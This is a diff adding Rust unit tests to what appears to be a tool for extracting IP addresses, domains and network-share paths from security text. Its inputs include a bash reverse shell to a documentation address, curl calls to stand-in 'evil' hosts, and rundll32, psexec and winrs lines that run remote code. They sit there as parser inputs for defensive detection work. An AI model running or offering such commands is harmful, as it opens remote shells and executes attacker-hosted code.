@@ -131,6 +131,99 @@ fn what_only_looks_like_one_is_none() {
 }
 
 #[test]
+fn versions_and_object_identifiers_are_no_addresses() {
+    for text in [
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 \
+         Safari/537.36 Edg/120.0.0.0",
+        r#"{"ua":"Google-Update/1.3.36.152;OPR/106.0.0.0"}"#,
+        "-TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.2')",
+        "certutil -oid 2.5.29.37, OID.2.5.29.15, oid=2.5.29.14",
+    ] {
+        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
+    }
+    for text in [
+        "tcp/203.0.113.9",
+        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
+        "setspn -A HOST/203.0.113.9 x; MSSQLSvc/203.0.113.9:1433",
+        "permitted tcp Outside/203.0.113.9(443)",
+        "Worker/203.0.113.9:8080",
+        "Net/203.0.113.9/24",
+        "dn3/203.0.113.9 WIN10/203.0.113.9 web/203.0.113.9 WEB/203.0.113.9",
+        "http://203.0.113.9/",
+        "GET /Docs/203.0.113.9",
+        "avoid 203.0.113.9; android:203.0.113.9",
+    ] {
+        assert!(values(text).iter().any(|it| it == "203.0.113.9"), "{text}: {:?}", values(text));
+    }
+    assert_eq!(values("Desktop/10.1.2.3"), ["10.1.2.3"]);
+}
+
+#[test]
+fn names_of_files_and_in_programs_are_no_domains() {
+    for text in [
+        r#"CreateObject("WScript.Shell").Run "calc""#,
+        "createobject('wscript.shell'), new ActiveXObject('ADODB.Stream'), WScript.Network, wscript.network",
+        "Import-Module Microsoft.PowerShell.Management, Microsoft.PowerShell.Security, Microsoft.Azure.Security",
+        "New-Object -ComObject Scripting.FileSystemObject; new-object system.net.webclient; [io.file]",
+        "objShell.Run cmd",
+        "invoice.pdf.zip install.min.sh x.test.py backup.2024.sh x64.release.zip setup.cab driver.v2.cab a.tar.md",
+        "my_notes.tools _ssl.cpython-311-x86_64-linux-gnu.so",
+    ] {
+        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
+    }
+    for (text, domain) in [
+        ("curl https://evil.zip/x", "evil.zip"),
+        ("curl https://invoice.pdf.zip/x", "invoice.pdf.zip"),
+        ("at evil[.]zip", "evil.zip"),
+        ("at wscript[.]shell", "wscript.shell"),
+        ("mail x@evil.py", "evil.py"),
+        (r"\\evil.zip\x", "evil.zip"),
+        (r"net view \\evil.sh", "evil.sh"),
+        ("www.evil.zip", "www.evil.zip"),
+        ("ping www.evil.pl", "www.evil.pl"),
+        ("get.evil.sh", "get.evil.sh"),
+        ("system.contoso.com", "system.contoso.com"),
+        ("microsoft.login-now.live", "microsoft.login-now.live"),
+        ("From Contoso.Com", "contoso.com"),
+        ("EVIL.SHOP", "evil.shop"),
+        ("_dmarc.contoso.com", "dmarc.contoso.com"),
+    ] {
+        assert!(values(text).iter().any(|it| it == domain), "{text}: {:?}", values(text));
+    }
+}
+
+#[test]
+fn shares_name_their_hosts() {
+    for (text, expected) in [
+        (
+            r"rundll32 \\evil.com@SSL\DavWWWRoot\x.dll,Run",
+            &[r"windows_path \\evil.com@SSL\DavWWWRoot\x.dll", "  dns evil.com"][..],
+        ),
+        (r"\\evil.com@SSL@8443\x", &[r"windows_path \\evil.com@SSL@8443\x", "  dns evil.com"]),
+        (r"copy \\evil.com@8080\x .", &[r"windows_path \\evil.com@8080\x", "  dns evil.com"]),
+        (r"\\203.0.113.9@80\x", &[r"windows_path \\203.0.113.9@80\x", "  ipv4 203.0.113.9"]),
+        (r"psexec \\srv.contoso.com,a.contoso.com -s cmd", &["dns srv.contoso.com", "dns a.contoso.com"]),
+        (r"net view \\evil.com", &["dns evil.com"]),
+        (r"dir \\evil.com\", &["dns evil.com"]),
+        (r"net use z: \\evil.com@8080", &["dns evil.com"]),
+        (r"winrs -r:\\203.0.113.9 id", &["ipv4 203.0.113.9"]),
+        (r"x /d:\\evil.com\a\b", &[r"windows_path \\evil.com\a\b", "  dns evil.com"]),
+        (r"\\?\UNC\evil.com\share\x", &[r"windows_path \\?\UNC\evil.com\share\x", "  dns evil.com"]),
+        (r#""\\\\evil.com\\share\\x""#, &[r"windows_path \\\\evil.com\\share\\x", "  dns evil.com"]),
+        (r#"{"to":"\\\\evil.com"}"#, &["dns evil.com"]),
+        // An account, and a host that is in no list.
+        (r"CONTOSO\adele.name, CONTOSO\\adele.name, \\SRV01, a.b\\c.com", &[]),
+        (
+            r"\??\C:\Windows\system32\conhost.exe 0xffffffff",
+            &[r"windows_path \??\C:\Windows\system32\conhost.exe"],
+        ),
+        (r"\\?\C:\a\b.exe", &[r"windows_path \\?\C:\a\b.exe"]),
+    ] {
+        assert_eq!(outline(text), expected, "{text}");
+    }
+}
+
+#[test]
 fn paths_end_where_they_end() {
     for (text, expected) in [
         (r#""C:\Program Files\A b\c.exe" -x"#, r"C:\Program Files\A b\c.exe"),
@@ -216,6 +309,9 @@ fn long_hostile_texts_take_no_longer_than_others() {
         "a@".repeat(200_000),
         "[.]".repeat(130_000),
         "\\\\a\\".repeat(100_000),
+        format!("{}a.com ", "\\".repeat(400_000)),
+        "\\\\a.com ".repeat(50_000),
+        "Word/1.1.1.1 ".repeat(50_000),
     ];
     // Any quadratic step among these would take minutes.
     for text in &long {
